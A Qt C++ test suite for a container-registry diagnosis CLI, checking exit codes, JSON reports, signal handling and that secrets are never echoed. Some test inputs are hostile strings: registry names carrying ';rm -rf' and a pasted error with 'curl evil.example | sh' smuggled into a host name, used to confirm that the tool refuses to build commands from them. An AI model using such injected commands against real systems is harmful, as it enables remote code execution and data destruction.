// registry-doctor-cli as a user runs it: a real child process, real standard input and output,
// exit codes, and the practice registry for full checks.
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QtTest>
#include "standin_bin.h"
#include <csignal>
#include <sys/types.h>

namespace {

struct Run
{
    int exitCode = -1;
    QByteArray out;
    QByteArray err;
};

Run cli(const QStringList &args, const QByteArray &input = QByteArray(), int timeoutMs = 60000)
{
    QProcess p;
    p.setProgram(QStringLiteral(RD_CLI_PATH));
    p.setArguments(args);
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("LC_ALL"), QStringLiteral("C.UTF-8"));
    p.setProcessEnvironment(env);
    p.start();
    if (!p.waitForStarted())
        return {};
    p.write(input);
    p.closeWriteChannel();
    if (!p.waitForFinished(timeoutMs)) {
        p.kill();
        p.waitForFinished();
        return {};
    }
    return {p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -2, p.readAllStandardOutput(), p.readAllStandardError()};
}

QJsonObject json(const QByteArray &bytes)
{
    return QJsonDocument::fromJson(bytes).object();
}

} // namespace

class CliTest : public QObject
{
    Q_OBJECT
private slots:
    void version_printsProjectVersion();
    void noArguments_isUsageError();
    void passwordArgument_isRefusedWithoutEchoingIt();
    void unusableRegistryWithPassword_neverEchoesIt_data();
    void unusableRegistryWithPassword_neverEchoesIt();
    void badInput_exitsTwoWithClearMessage_data();
    void badInput_exitsTwoWithClearMessage();
    void practiceHealthy_exitsZero_jsonHasDocumentedShape();
    void practiceWrongPassword_exitsOne_causeFirstInText();
    void practiceWithCanaryPasswordOnStdin_refused_secretNeverPrinted();
    void practiceGarOtherRegion_loginHostMismatch_fromTheDockerConfigItGives();
    void symptomsAndCauses_listEveryStableId();
    void explain_recognisesPastedMessage_andSuggestsTheCheck();
    void explain_emptyInput_isUsageError();
    void explain_namesTheRegistryKind();
    void explain_wholeCiLog_lastErrorWins_withClientAndFix();
    void dockerConfigJson_unreadableOrWithCredentials_isUsageError();
    void explain_neverRepeatsCredentials_norBuildsACommandFromPastedText();
    void stopSignal_cancelsTheCheck_noChildOutlivesIt_data();
    void stopSignal_cancelsTheCheck_noChildOutlivesIt();
    void reportCannotBeWritten_exitsNonZero();
    void practiceList_namesScenarios();
    void azureService_guidanceInTextAndMarkdown();
};

void CliTest::version_printsProjectVersion()
{
    const Run r = cli({QStringLiteral("--version")});
    QCOMPARE(r.exitCode, 0);
    QCOMPARE(r.out.trimmed(), QByteArray("registry-doctor-cli " RD_VERSION));
}

void CliTest::noArguments_isUsageError()
{
    const Run r = cli({});
    QCOMPARE(r.exitCode, 2);
    QVERIFY(r.err.contains("Usage:"));
}

void CliTest::passwordArgument_isRefusedWithoutEchoingIt()
{
    const Run r = cli({QStringLiteral("check"), QStringLiteral("contoso.azurecr.io"), QStringLiteral("--password"),
                       QStringLiteral("Canary-Secret-7781")});
    QCOMPARE(r.exitCode, 2);
    QVERIFY(r.err.contains("--password-stdin"));
    QVERIFY(!r.out.contains("Canary-Secret-7781"));
    QVERIFY(!r.err.contains("Canary-Secret-7781"));
}

void CliTest::unusableRegistryWithPassword_neverEchoesIt_data()
{
    QTest::addColumn<QString>("registry");
    QTest::newRow("url credentials, bad port") << QStringLiteral("https://alice:Canary-Secret-7781@contoso.azurecr.io:99999");
    QTest::newRow("credentials, control character") << QStringLiteral("alice:Canary-Secret-7781@my registry!\x01;rm");
    QTest::newRow("credentials, dash in acr name") << QStringLiteral("alice:Canary-Secret-7781@my-registry.azurecr.io");
}

// Found while writing scripts/valgrind-cli.sh: the "not a registry address" message
// quoted the text as typed, password included.
void CliTest::unusableRegistryWithPassword_neverEchoesIt()
{
    QFETCH(QString, registry);
    const Run r = cli({QStringLiteral("check"), registry});
    QCOMPARE(r.exitCode, 2);
    QVERIFY2(r.err.contains("is not a registry address"), r.err.constData());
    QVERIFY(!r.out.contains("Canary-Secret-7781"));
    QVERIFY(!r.err.contains("Canary-Secret-7781"));
}

void CliTest::badInput_exitsTwoWithClearMessage_data()
{
    QTest::addColumn<QStringList>("args");
    QTest::addColumn<QByteArray>("expected");
    QTest::newRow("garbage registry") << QStringList{QStringLiteral("check"), QStringLiteral("my registry!;rm -rf")} << QByteArray("is not a registry address");
    QTest::newRow("empty registry") << QStringList{QStringLiteral("check"), QString()} << QByteArray("is not a registry address");
    QTest::newRow("no registry") << QStringList{QStringLiteral("check")} << QByteArray("Which registry?");
    QTest::newRow("bad action") << QStringList{QStringLiteral("check"), QStringLiteral("contoso"), QStringLiteral("--action"), QStringLiteral("delete")} << QByteArray("pull or push");
    QTest::newRow("bad symptom") << QStringList{QStringLiteral("check"), QStringLiteral("contoso"), QStringLiteral("--symptom"), QStringLiteral("nope")} << QByteArray("Unknown symptom");
    QTest::newRow("bad timeout") << QStringList{QStringLiteral("check"), QStringLiteral("contoso"), QStringLiteral("--timeout"), QStringLiteral("0")} << QByteArray("--timeout");
    QTest::newRow("bad format") << QStringList{QStringLiteral("check"), QStringLiteral("contoso"), QStringLiteral("--format"), QStringLiteral("xml")} << QByteArray("Unknown format");
    QTest::newRow("missing ca file") << QStringList{QStringLiteral("check"), QStringLiteral("contoso"), QStringLiteral("--ca-file"), QStringLiteral("/nonexistent/ca.pem")} << QByteArray("Cannot read the certificate file");
    QTest::newRow("unknown scenario") << QStringList{QStringLiteral("check"), QStringLiteral("--practice"), QStringLiteral("nope")} << QByteArray("Unknown practice scenario");
    QTest::newRow("unknown command") << QStringList{QStringLiteral("frobnicate")} << QByteArray("Unknown command");
    QTest::newRow("uppercase repository") << QStringList{QStringLiteral("check"), QStringLiteral("contoso"), QStringLiteral("--repository"), QStringLiteral("Hello")} << QByteArray("lowercase");
}

void CliTest::badInput_exitsTwoWithClearMessage()
{
    QFETCH(QStringList, args);
    QFETCH(QByteArray, expected);
    const Run r = cli(args);
    QCOMPARE(r.exitCode, 2);
    QVERIFY2(r.err.contains(expected), r.err.constData());
}

void CliTest::practiceHealthy_exitsZero_jsonHasDocumentedShape()
{
    const Run r = cli({QStringLiteral("check"), QStringLiteral("--practice"), QStringLiteral("healthy"), QStringLiteral("--repository"),
                       QStringLiteral("hello"), QStringLiteral("--format"), QStringLiteral("json")});
    QCOMPARE(r.exitCode, 0);
    const QJsonObject root = json(r.out);
    QCOMPARE(root.value(QStringLiteral("tool")).toObject().value(QStringLiteral("name")).toString(), QStringLiteral("registry-doctor"));
    QCOMPARE(root.value(QStringLiteral("tool")).toObject().value(QStringLiteral("version")).toString(), QStringLiteral(RD_VERSION));
    const QJsonObject reg = root.value(QStringLiteral("registry")).toObject();
    QCOMPARE(reg.value(QStringLiteral("loginServer")).toString(), QStringLiteral("contoso.azurecr.io"));
    QCOMPARE(reg.value(QStringLiteral("kind")).toString(), QStringLiteral("acr"));
    QVERIFY(root.value(QStringLiteral("startedAt")).toString().contains(QLatin1Char('T')));
    QVERIFY(root.value(QStringLiteral("durationMs")).isDouble());
    QCOMPARE(root.value(QStringLiteral("causes")).toArray().size(), 0);
    const QJsonArray probes = root.value(QStringLiteral("probes")).toArray();
    QVERIFY(probes.size() >= 8);
    for (const QJsonValue &v : probes) {
        const QJsonObject p = v.toObject();
        for (const char *key : {"id", "status", "title", "detail", "durationMs", "evidence"})
            QVERIFY2(p.contains(QLatin1String(key)), key);
        QVERIFY(QStringList({QStringLiteral("pass"), QStringLiteral("warn"), QStringLiteral("fail"), QStringLiteral("skip")})
                    .contains(p.value(QStringLiteral("status")).toString()));
    }
}

void CliTest::practiceWrongPassword_exitsOne_causeFirstInText()
{
    const Run r = cli({QStringLiteral("check"), QStringLiteral("--practice"), QStringLiteral("wrong-password")});
    QCOMPARE(r.exitCode, 1);
    const QString text = QString::fromUtf8(r.out);
    const qsizetype cause = text.indexOf(QStringLiteral("The user name or password is wrong"));
    const qsizetype checks = text.indexOf(QStringLiteral("Checks:"));
    QVERIFY(cause > 0);
    QVERIFY(checks > cause);
    QVERIFY(text.contains(QStringLiteral("--password-stdin")));

    const Run j = cli({QStringLiteral("check"), QStringLiteral("--practice"), QStringLiteral("wrong-password"), QStringLiteral("--format"),
                       QStringLiteral("json")});
    QCOMPARE(j.exitCode, 1);
    const QJsonObject c = json(j.out).value(QStringLiteral("causes")).toArray().first().toObject();
    QCOMPARE(c.value(QStringLiteral("id")).toString(), QStringLiteral("credentials-invalid"));
    QCOMPARE(c.value(QStringLiteral("severity")).toString(), QStringLiteral("error"));
    const QJsonArray steps = c.value(QStringLiteral("remediation")).toArray();
    QVERIFY(!steps.isEmpty());
    QStringList shells;
    for (const QJsonValue &s : steps)
        for (const QJsonValue &cmd : s.toObject().value(QStringLiteral("commands")).toArray())
            shells << cmd.toObject().value(QStringLiteral("shell")).toString();
    QVERIFY(shells.contains(QStringLiteral("powershell")));
    QVERIFY(shells.contains(QStringLiteral("bash")));
    QVERIFY(!c.value(QStringLiteral("links")).toArray().isEmpty());
}

void CliTest::practiceWithCanaryPasswordOnStdin_refused_secretNeverPrinted()
{
    // The wrong-password scenario's user, with a canary password typed on stdin: refused, and the
    // canary appears nowhere.
    const QByteArray canary("Canary-Pass-31337-xyzzy");
    const Run r = cli({QStringLiteral("check"), QStringLiteral("--practice"), QStringLiteral("wrong-password"), QStringLiteral("--username"),
                       QStringLiteral("contoso"), QStringLiteral("--password-stdin"), QStringLiteral("--format"), QStringLiteral("json")},
                      canary + "\n");
    QCOMPARE(r.exitCode, 1);
    QVERIFY(!r.out.contains(canary));
    QVERIFY(!r.err.contains(canary));
    QVERIFY(!r.out.contains(QByteArray("contoso:" + canary).toBase64()));
}

// The scenario's Docker config (gcloud's helper for other hosts) is read by the real probes in a
// folder of its own, gone when the command ends; the fix is gcloud's for exactly this host.
void CliTest::practiceGarOtherRegion_loginHostMismatch_fromTheDockerConfigItGives()
{
    const Run r = cli({QStringLiteral("check"), QStringLiteral("--practice"), QStringLiteral("gar-configure-docker-other-region"),
                       QStringLiteral("--format"), QStringLiteral("json")});
    QCOMPARE(r.exitCode, 1);
    const QJsonObject d = json(r.out);
    QCOMPARE(d.value(QStringLiteral("registry")).toObject().value(QStringLiteral("kind")).toString(), QStringLiteral("artifact-registry"));
    const QJsonArray causes = d.value(QStringLiteral("causes")).toArray();
    QCOMPARE(causes.size(), 1);
    QCOMPARE(causes.first().toObject().value(QStringLiteral("id")).toString(), QStringLiteral("login-host-mismatch"));
    QVERIFY2(r.out.contains("gcloud auth configure-docker europe-west1-docker.pkg.dev"), r.out.constData());
    QString configPath;
    for (const QJsonValue &p : d.value(QStringLiteral("probes")).toArray())
        if (p.toObject().value(QStringLiteral("id")).toString() == QLatin1String("docker-config"))
            configPath = p.toObject().value(QStringLiteral("evidence")).toObject().value(QStringLiteral("path")).toString();
    QVERIFY2(configPath.endsWith(QStringLiteral("config.json")), r.out.constData());
    QVERIFY(QDir::fromNativeSeparators(configPath) != QDir::home().filePath(QStringLiteral(".docker/config.json")));
    QVERIFY(!QFileInfo::exists(configPath));
}

void CliTest::symptomsAndCauses_listEveryStableId()
{
    const Run s = cli({QStringLiteral("symptoms"), QStringLiteral("--format"), QStringLiteral("json")});
    QCOMPARE(s.exitCode, 0);
    const QJsonArray symptoms = QJsonDocument::fromJson(s.out).array();
    QCOMPARE(symptoms.size(), 7);
    const Run c = cli({QStringLiteral("causes"), QStringLiteral("--format"), QStringLiteral("json")});
    QCOMPARE(c.exitCode, 0);
    QStringList ids;
    for (const QJsonValue &v : QJsonDocument::fromJson(c.out).array())
        ids << v.toObject().value(QStringLiteral("id")).toString();
    for (const char *id : {"docker-not-installed", "docker-too-old", "docker-daemon-not-running", "registry-name-invalid",
                           "registry-not-found", "network-unreachable", "proxy-problem", "tls-untrusted-certificate",
                           "firewall-blocked", "private-endpoint-dns", "throttled", "not-a-registry", "no-credentials",
                           "credentials-invalid", "username-not-recognized", "credentials-not-authorized", "credentials-expired",
                           "credential-store-failing", "az-not-logged-in", "clock-skew"})
        QVERIFY2(ids.contains(QLatin1String(id)), id);
}

void CliTest::explain_recognisesPastedMessage_andSuggestsTheCheck()
{
    const QByteArray paste = "Error response from daemon: Get \"https://myregistry.azurecr.io/v2/\": denied: client with IP "
                             "'203.0.113.7' is not allowed access. Refer https://aka.ms/acr/firewall to grant access.\n";
    const Run j = cli({QStringLiteral("explain"), QStringLiteral("--format"), QStringLiteral("json")}, paste);
    QCOMPARE(j.exitCode, 1);
    const QJsonObject root = json(j.out);
    QCOMPARE(root.value(QStringLiteral("registry")).toString(), QStringLiteral("myregistry.azurecr.io"));
    QCOMPARE(root.value(QStringLiteral("causes")).toArray().first().toString(), QStringLiteral("firewall-blocked"));
    const QJsonObject match = root.value(QStringLiteral("matches")).toArray().first().toObject();
    QCOMPARE(match.value(QStringLiteral("extracted")).toObject().value(QStringLiteral("clientIp")).toString(), QStringLiteral("203.0.113.7"));

    const Run t = cli({QStringLiteral("explain")}, paste);
    QCOMPARE(t.exitCode, 1);
    QVERIFY(t.out.contains("registry-doctor-cli check myregistry.azurecr.io"));
}

// The client and the kind of registry the message came from (issue 11): a docker pull from Docker
// Hub on a network without an IPv6 route (matrix-docker-ansible-deploy#2860), and an ACR message.
void CliTest::explain_namesTheRegistryKind()
{
    const QByteArray hub = "docker: Error response from daemon: Get \"https://registry-1.docker.io/v2/\": "
                           "dial tcp [2600:1f18:2148:bc02:4bf0:3a98:55ae:e3d5]:443: connect: network is unreachable.\n";
    const Run j = cli({QStringLiteral("explain"), QStringLiteral("--format"), QStringLiteral("json")}, hub);
    QCOMPARE(j.exitCode, 1);
    const QJsonObject root = json(j.out);
    QCOMPARE(root.value(QStringLiteral("registryKind")).toString(), QStringLiteral("docker-hub"));
    QCOMPARE(root.value(QStringLiteral("causes")).toArray().first().toString(), QStringLiteral("ipv6-unreachable"));
    const Run t = cli({QStringLiteral("explain")}, hub);
    QVERIFY2(t.out.contains("Registry: registry-1.docker.io (Docker Hub)"), t.out.constData());
    QVERIFY2(t.out.contains("Printed by: docker"), t.out.constData());

    const QByteArray acr = "Error response from daemon: Get \"https://myregistry.azurecr.io/v2/\": denied: client with IP "
                           "'203.0.113.7' is not allowed access. Refer https://aka.ms/acr/firewall to grant access.\n";
    QCOMPARE(json(cli({QStringLiteral("explain"), QStringLiteral("--format"), QStringLiteral("json")}, acr).out)
                 .value(QStringLiteral("registryKind")).toString(),
             QStringLiteral("acr"));
    // No registry named: no kind guessed.
    QCOMPARE(json(cli({QStringLiteral("explain"), QStringLiteral("--format"), QStringLiteral("json")}, QByteArray("connection refused\n")).out)
                 .value(QStringLiteral("registryKind")).toString(),
             QString());
}

// A GitHub Actions log of 3 MB (more than the 1 MB the command once read): an early docker error,
// build output, and at the end docker/login-action's "Username and password required".
void CliTest::explain_wholeCiLog_lastErrorWins_withClientAndFix()
{
    QByteArray log = "2026-11-30T09:59:59.0000000Z Error response from daemon: Get \"https://contoso.azurecr.io/v2/\": "
                     "unauthorized: authentication required\n";
    while (log.size() < 3 * 1024 * 1024)
        log += "2026-11-30T10:00:00.1234567Z #12 0.512 Get:1 http://deb.debian.org/debian bookworm InRelease [151 kB]\n";
    log += "2026-11-30T10:05:00.0000000Z ##[group]Run docker/login-action@v3\n"
           "2026-11-30T10:05:01.0000000Z ##[error]Username and password required\n";

    const Run j = cli({QStringLiteral("explain"), QStringLiteral("--format"), QStringLiteral("json")}, log);
    QCOMPARE(j.exitCode, 1);
    const QJsonObject root = json(j.out);
    QCOMPARE(root.value(QStringLiteral("causes")).toArray().first().toString(), QStringLiteral("ci-secret-missing"));
    QCOMPARE(root.value(QStringLiteral("client")).toString(), QStringLiteral("docker"));
    QCOMPARE(root.value(QStringLiteral("registry")).toString(), QStringLiteral("contoso.azurecr.io"));
    const QJsonArray matches = root.value(QStringLiteral("matches")).toArray();
    const int primary = root.value(QStringLiteral("primary")).toInt();
    QCOMPARE(primary, matches.size() - 1);
    QCOMPARE(matches.at(primary).toObject().value(QStringLiteral("pattern")).toString(), QStringLiteral("ci-empty-credentials"));
    QVERIFY(!root.value(QStringLiteral("fix")).toArray().isEmpty());

    const Run t = cli({QStringLiteral("explain")}, log);
    QCOMPARE(t.exitCode, 1);
    QVERIFY2(t.out.contains("Printed by: docker"), t.out.constData());
    QVERIFY(t.out.contains("Most likely: The pipeline passed an empty user name or password"));
    QVERIFY(t.out.contains("REGISTRY_PASSWORD is empty"));
}

void CliTest::dockerConfigJson_unreadableOrWithCredentials_isUsageError()
{
    QTemporaryDir dir;
    const QString yaml = dir.filePath(QStringLiteral("secret.yaml"));
    QFile f(yaml);
    QVERIFY(f.open(QIODevice::WriteOnly));
    f.write("apiVersion: v1\nkind: Secret\n");   // kubectl's default output, not JSON
    f.close();
    const Run notJson = cli({QStringLiteral("check"), QStringLiteral("contoso.azurecr.io"), QStringLiteral("--docker-config-json"), yaml});
    QCOMPARE(notJson.exitCode, 2);
    QVERIFY2(notJson.err.contains("-o json"), notJson.err.constData());
    const Run missing = cli({QStringLiteral("check"), QStringLiteral("contoso.azurecr.io"), QStringLiteral("--docker-config-json"),
                             dir.filePath(QStringLiteral("none.json"))});
    QCOMPARE(missing.exitCode, 2);
    const Run both = cli({QStringLiteral("check"), QStringLiteral("contoso.azurecr.io"), QStringLiteral("--username"), QStringLiteral("x"),
                          QStringLiteral("--docker-config-json"), yaml});
    QCOMPARE(both.exitCode, 2);
}

void CliTest::explain_neverRepeatsCredentials_norBuildsACommandFromPastedText()
{
    // The first registry named is hostile text: it must not become part of the suggested command.
    const QByteArray paste =
        "Error response from daemon: Get \"https://host;{curl,evil.example}|sh;#.azurecr.io/v2/\": dial tcp: lookup host: no such host\n"
        "Error response from daemon: Get \"https://alice:Hunter2-Paste@myregistry.azurecr.io/v2/?access_token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl\": "
        "unauthorized: authentication required password=Pa55w0rd-Paste\n";
    for (const QStringList &args : {QStringList{QStringLiteral("explain")}, QStringList{QStringLiteral("explain"), QStringLiteral("--format"), QStringLiteral("json")}}) {
        const Run r = cli(args, paste);
        QVERIFY(r.exitCode == 0 || r.exitCode == 1);
        for (const char *secret : {"Hunter2-Paste", "Pa55w0rd-Paste", "c2lnbmF0dXJl", "eyJzdWIiOiJ4In0"})
            QVERIFY2(!r.out.contains(secret) && !r.err.contains(secret), secret);
        for (const QByteArray &line : QByteArray(r.out).replace("\r\n", "\n").split('\n')) // Windows ends lines with CR LF
            if (line.contains("registry-doctor-cli check"))
                QVERIFY2(QRegularExpression(QStringLiteral("^\\s*registry-doctor-cli check (REGISTRY|[a-z0-9.:-]+)( --symptom [a-z-]+)*$"))
                             .match(QString::fromUtf8(line)).hasMatch(), line.constData());
    }
}

// POSIX signals to a POSIX process group (the stand-in az is a /bin/sh script): Unix only. Windows
// has neither; the Windows run leaves tst_cli out (scripts/test-windows.sh).
#ifdef Q_OS_UNIX
void CliTest::stopSignal_cancelsTheCheck_noChildOutlivesIt_data()
{
    QTest::addColumn<int>("sig");
    QTest::newRow("SIGINT") << int(SIGINT);
    QTest::newRow("SIGTERM") << int(SIGTERM);
    QTest::newRow("SIGHUP") << int(SIGHUP);
}

void CliTest::stopSignal_cancelsTheCheck_noChildOutlivesIt()
{
    // A real child (the az stand-in, a shell) that starts a grandchild (sleep 300) and waits.
    QFETCH(int, sig);
    rd::test::StandinBin bin;
    QVERIFY(bin.isValid() && bin.add(QStringLiteral("az")));
    QTemporaryDir home;
    QVERIFY(home.isValid());
    QDir(home.path()).mkpath(QStringLiteral(".azure"));
    QDir(home.path()).mkpath(QStringLiteral(".docker"));
    const QString pidFile = home.filePath(QStringLiteral("az.pids"));
    QProcess p;
    p.setProgram(QStringLiteral(RD_CLI_PATH));
    p.setArguments({QStringLiteral("check"), QStringLiteral("contoso.azurecr.io"), QStringLiteral("--sign-in"),
                    QStringLiteral("azure-cli"), QStringLiteral("--timeout"), QStringLiteral("60"), QStringLiteral("--format"),
                    QStringLiteral("json")});
    QProcessEnvironment env;
    env.insert(QStringLiteral("PATH"), bin.path());
    env.insert(QStringLiteral("HOME"), home.path());
    env.insert(QStringLiteral("DOCKER_CONFIG"), home.filePath(QStringLiteral(".docker")));
    env.insert(QStringLiteral("AZURE_CONFIG_DIR"), home.filePath(QStringLiteral(".azure")));
    env.insert(QStringLiteral("LC_ALL"), QStringLiteral("C.UTF-8"));
    env.insert(QStringLiteral("RD_STANDIN_AZ_MODE"), QStringLiteral("hang-with-child"));
    env.insert(QStringLiteral("RD_STANDIN_CHILD_PIDFILE"), pidFile);
    p.setProcessEnvironment(env);
    p.start();
    QVERIFY(p.waitForStarted());
    p.closeWriteChannel();
    QList<qint64> pids;
    QTRY_VERIFY_WITH_TIMEOUT(([&] {
        QFile f(pidFile);
        if (!f.open(QIODevice::ReadOnly))
            return false;
        pids.clear();
        for (const QByteArray &w : f.readAll().simplified().split(' '))
            if (w.toLongLong() > 0)
                pids << w.toLongLong();
        return pids.size() == 2;
    }()), 20000);
    auto alive = [](qint64 pid) {
        QFile stat(QStringLiteral("/proc/%1/stat").arg(pid));
        if (!stat.open(QIODevice::ReadOnly))
            return false;
        const QByteArray s = stat.readAll();
        const qsizetype close = s.lastIndexOf(')');
        return close > 0 && s.size() > close + 2 && s.at(close + 2) != 'Z';
    };
    QVERIFY(alive(pids.at(0)) && alive(pids.at(1)));
    QCOMPARE(::kill(pid_t(p.processId()), sig), 0);
    QVERIFY2(p.waitForFinished(10000), "the command line did not stop");
    QCOMPARE(p.exitStatus(), QProcess::NormalExit);
    QCOMPARE(p.exitCode(), 3);
    QVERIFY(json(p.readAllStandardOutput()).value(QStringLiteral("cancelled")).toBool());
    QTRY_VERIFY_WITH_TIMEOUT(!alive(pids.at(0)), 3000);
    QTRY_VERIFY_WITH_TIMEOUT(!alive(pids.at(1)), 3000); // the grandchild too
}
#else
void CliTest::stopSignal_cancelsTheCheck_noChildOutlivesIt_data() {}
void CliTest::stopSignal_cancelsTheCheck_noChildOutlivesIt() { QSKIP("POSIX signals"); }
#endif

void CliTest::reportCannotBeWritten_exitsNonZero()
{
    if (!QFile::exists(QStringLiteral("/dev/full")))
        QSKIP("no /dev/full on this system");
    QProcess p;
    p.setProgram(QStringLiteral(RD_CLI_PATH));
    p.setArguments({QStringLiteral("check"), QStringLiteral("--practice"), QStringLiteral("healthy"), QStringLiteral("--format"),
                    QStringLiteral("json")});
    p.setStandardOutputFile(QStringLiteral("/dev/full"));
    p.start();
    QVERIFY(p.waitForFinished(60000));
    QCOMPARE(p.exitStatus(), QProcess::NormalExit);
    QCOMPARE(p.exitCode(), 3);
    QVERIFY(p.readAllStandardError().contains("could not be written"));
}

void CliTest::explain_emptyInput_isUsageError()
{
    const Run r = cli({QStringLiteral("explain")}, QByteArray("  \n"));
    QCOMPARE(r.exitCode, 2);
}

void CliTest::practiceList_namesScenarios()
{
    const Run r = cli({QStringLiteral("practice"), QStringLiteral("--list"), QStringLiteral("--format"), QStringLiteral("json")});
    QCOMPARE(r.exitCode, 0);
    QStringList ids;
    for (const QJsonValue &v : QJsonDocument::fromJson(r.out).array()) {
        ids << v.toObject().value(QStringLiteral("id")).toString();
        // The complaint in the user's words and the group, for training (issue 13).
        QVERIFY(!v.toObject().value(QStringLiteral("complaint")).toString().isEmpty());
        QVERIFY(!v.toObject().value(QStringLiteral("difficulty")).toString().isEmpty());
    }
    for (const char *id : {"healthy", "wrong-password", "unknown-user", "pull-only-push", "expired-token", "firewall", "throttled",
                           "untrusted-certificate", "slow-server"})
        QVERIFY2(ids.contains(QLatin1String(id)), id);
}

// Issue 13: the guidance for an Azure service's own identity, which the wizard shows, is in the
// command line's output and its reports too, from the same engine data.
void CliTest::azureService_guidanceInTextAndMarkdown()
{
    for (const char *format : {"text", "markdown"}) {
        const Run r = cli({QStringLiteral("check"), QStringLiteral("--practice"), QStringLiteral("healthy"), QStringLiteral("--sign-in"),
                           QStringLiteral("azure-service"), QStringLiteral("--format"), QLatin1String(format)});
        const QString out = QString::fromUtf8(r.out);
        QVERIFY2(out.contains(QStringLiteral("Signing in from an Azure service")), qPrintable(out));
        for (const char *command : {"az aks check-acr --resource-group RESOURCE_GROUP --name CLUSTER_NAME --acr contoso.azurecr.io",
                                    "--attach-acr contoso", "--role AcrPull"})
            QVERIFY2(out.contains(QLatin1String(command)), command);
        QVERIFY(out.contains(QStringLiteral("azure/login")));
        // Advice, not a problem: a check that found nothing still says so.
        QCOMPARE(r.exitCode, 0);
    }
    // Without the Azure service, no such advice.
    const Run plain = cli({QStringLiteral("check"), QStringLiteral("--practice"), QStringLiteral("healthy")});
    QVERIFY(!QString::fromUtf8(plain.out).contains(QStringLiteral("az aks check-acr")));
}

QTEST_GUILESS_MAIN(CliTest)
#include "tst_cli.moc"
